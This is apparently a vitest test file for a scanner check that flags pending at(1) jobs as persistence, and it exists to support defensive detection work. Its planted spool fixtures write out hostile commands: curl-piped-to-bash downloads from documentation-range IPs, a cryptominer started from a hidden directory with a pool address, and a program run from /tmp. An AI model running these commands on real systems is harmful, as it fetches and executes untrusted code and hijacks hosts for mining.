/**
 * The at jobs check over planted spools in the format at(1) writes: a Debian atjobs job
 * that downloads and runs a script, a RHEL job that starts a miner from a hidden
 * directory, a harmless job (low inventory only), an old-format job without the
 * here-document marker; the environment preamble never fires; job number, user and due
 * time in the message; atrm remediation; hostile spool files neither crash nor stall it.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import path from 'node:path';
import { atJobsCheck, parseAtJob } from '../../src/checks/at-jobs.js';
import { scanDirectory, scanHostile } from '../helpers/scan-dir.js';
import { findingRowKeys, rowKeys, unfilledTemplates, type FindingRow } from '../helpers/findings.js';
import { makeScratchDir, removeScratchDir } from '../helpers/images.js';
import { junkBytes, plantFiles, startedCollector, type PlantedFile } from '../helpers/planted-tree.js';

/** A job file as at 3.2 writes it; the preamble carries environment that must not fire. */
function atJob(user: string, uid: number, commands: string[], delimiter = 'marcinDELIMITER5f3a9c1e'): PlantedFile {
  const text = [
    '#!/bin/sh',
    `# atrun uid=${uid} gid=${uid}`,
    `# mail ${user} 0`,
    'umask 22',
    `HOME=/home/${user}; export HOME`,
    `LOGNAME=${user}; export LOGNAME`,
    // What a submitter's environment may hold: none of it is the job.
    'LESSOPEN=\\|\\|/usr/bin/lesspipe.sh\\ %s; export LESSOPEN',
    'PROMPT_HINT=curl\\ http://198.51.100.1/x\\ \\|\\ sh; export PROMPT_HINT',
    'PATH=/usr/local/bin:/usr/bin:/bin; export PATH',
    `cd /home/${user} || {`,
    "\t echo 'Execution directory inaccessible' >&2",
    '\t exit 1',
    '}',
    `\${SHELL:-/bin/sh} << '${delimiter}'`,
    ...commands,
    '',
    delimiter,
    '',
  ].join('\n');
  return { content: text, mode: 0o700 };
}

const FILES: Record<string, PlantedFile> = {
  // Job 3 of root, queue a, due 0x01a2b3c4 minutes after the epoch.
  'var/spool/cron/atjobs/a0000301a2b3c4': atJob('root', 0, ['curl -fsSL http://198.51.100.7/re.sh | bash']),
  'var/spool/cron/atjobs/.SEQ': '3\n',
  // Job 0x1f = 31 of deploy, RHEL spool.
  'var/spool/at/b0001f01a2b400': atJob('deploy', 1001, ['cd /opt/app', 'nohup /home/deploy/.cache/.sys/kswapd0 -o pool.example.net:3333 --donate-level 1 >/dev/null 2>&1 &']),
  'home/deploy/.cache/.sys/kswapd0': { content: Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), mode: 0o755 },
  'var/spool/at/spool/.keep': '',
  'var/spool/at/c0000201a2b500': atJob('alice', 1000, ['/usr/bin/rsync -a /srv/data/ /mnt/backup/']),
  // Older at: no here-document, the commands follow the cd block.
  'var/spool/atjobs/a0000401a2b600': '#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\ncd /root || {\n\t exit 1\n}\n/tmp/.x/run\n',
  // Not a job name: atd ignores it, so does the check.
  'var/spool/cron/atjobs/notes': 'curl http://198.51.100.7/x | sh\n',
};

const ROOT_JOB = '/var/spool/cron/atjobs/a0000301a2b3c4';
const DEPLOY_JOB = '/var/spool/at/b0001f01a2b400';
const EXPECTED: FindingRow[] = [
  ['at.pending-job', 'low', ROOT_JOB, 15],
  ['command.download-and-run', 'high', ROOT_JOB, 15],
  ['at.pending-job', 'low', DEPLOY_JOB, 15],
  ['command.started-from-hidden', 'high', DEPLOY_JOB, 16],
  ['command.miner', 'high', DEPLOY_JOB, 16],
  ['at.pending-job', 'low', '/var/spool/at/c0000201a2b500', 15],
  ['at.pending-job', 'low', '/var/spool/atjobs/a0000401a2b600', 8],
  ['command.started-from-temp', 'high', '/var/spool/atjobs/a0000401a2b600', 8],
];

describe('at jobs check', () => {
  let scratch: string;
  let infected: string;
  let hostile: string;

  beforeAll(async () => {
    scratch = await makeScratchDir('minescan-at-');
    infected = path.join(scratch, 'infected');
    hostile = path.join(scratch, 'hostile');
    await plantFiles(infected, FILES);
    const junk = junkBytes(300_000);
    await plantFiles(
      hostile,
      {
        'var/spool/cron/atjobs/a0000101a2b3c4': junk,
        'var/spool/cron/atjobs/a0000201a2b3c4': `\${SHELL:-/bin/sh} << 'marcinDELIMITER0'\n${'x | '.repeat(200_000)}\n`,
        'var/spool/cron/atjobs/a0000301a2b3c4': `${"${SHELL:-/bin/sh} << 'marcinDELIMITER1'\n".repeat(20_000)}`,
      },
      [['var/spool/cron/atjobs/a0000401a2b3c4', 'a0000401a2b3c4']],
    );
  });

  afterAll(async () => {
    if (scratch) await removeScratchDir(scratch);
  });

  it('reports every pending job and the shared rules on its commands only', async () => {
    const result = await scanDirectory(infected, [atJobsCheck]);
    expect(result.errors).toEqual([]);
    expect(findingRowKeys(result.findings)).toEqual(rowKeys(EXPECTED));
    for (const f of result.findings) expect(f.category).toBe('persistence/at');
    expect(unfilledTemplates(result.findings)).toEqual([]);
  });

  it('names the job number, user and due time, and removes the job with atrm', async () => {
    const { findings } = await scanDirectory(infected, [atJobsCheck]);
    const find = (rule: string, p: string) => findings.find((f) => f.rule === rule && f.path === p)!;
    const due = new Date(0x01a2b3c4 * 60_000).toISOString().replace('.000Z', 'Z');
    expect(find('command.download-and-run', ROOT_JOB).message).toContain(`(at job 3 of root, queue a, due ${due})`);
    expect(find('at.pending-job', DEPLOY_JOB).message).toContain('(at job 31 of deploy, queue b, due ');
    expect(find('at.pending-job', DEPLOY_JOB).evidence).toBe(
      'cd /opt/app; nohup /home/deploy/.cache/.sys/kswapd0 -o pool.example.net:3333 --donate-level 1 >/dev/null 2>&1 &',
    );
    expect(find('command.download-and-run', ROOT_JOB).remediation.split('\n')[0]).toBe(`atrm 3   # or, with atd stopped: rm -f ${ROOT_JOB}`);
    expect(find('command.miner', DEPLOY_JOB).remediation).toContain('rm -f /home/deploy/.cache/.sys/kswapd0   # the program it starts');
    expect(find('at.pending-job', '/var/spool/at/c0000201a2b500').remediation.split('\n')).toContain('atrm 2   # or, with atd stopped: rm -f /var/spool/at/c0000201a2b500');
  });

  it('records the programs a job starts', async () => {
    const collector = startedCollector();
    await scanDirectory(infected, [atJobsCheck, collector.check]);
    expect(collector.started).toEqual(
      expect.arrayContaining([
        { path: '/home/deploy/.cache/.sys/kswapd0', startedBy: `${DEPLOY_JOB}:16` },
        { path: '/usr/bin/rsync', startedBy: '/var/spool/at/c0000201a2b500:15' },
        { path: '/tmp/.x/run', startedBy: '/var/spool/atjobs/a0000401a2b600:8' },
      ]),
    );
    expect(collector.started.some((s) => s.path.includes('lesspipe'))).toBe(false);
  });

  it('reads only the here-document of a job file', () => {
    const job = parseAtJob((FILES[ROOT_JOB.slice(1)] as { content: string }).content);
    expect(job).toMatchObject({ user: 'root', uid: 0 });
    expect(job.lines.map((l) => [l.line, l.evidence])).toEqual([[15, 'curl -fsSL http://198.51.100.7/re.sh | bash']]);
  });

  it('reads hostile spool files without crashing or stalling', async () => {
    const result = await scanHostile(hostile, [atJobsCheck], { maxOperations: 200 });
    expect(result.findings.filter((f) => f.rule === 'at.pending-job')).toHaveLength(3);
  });
});
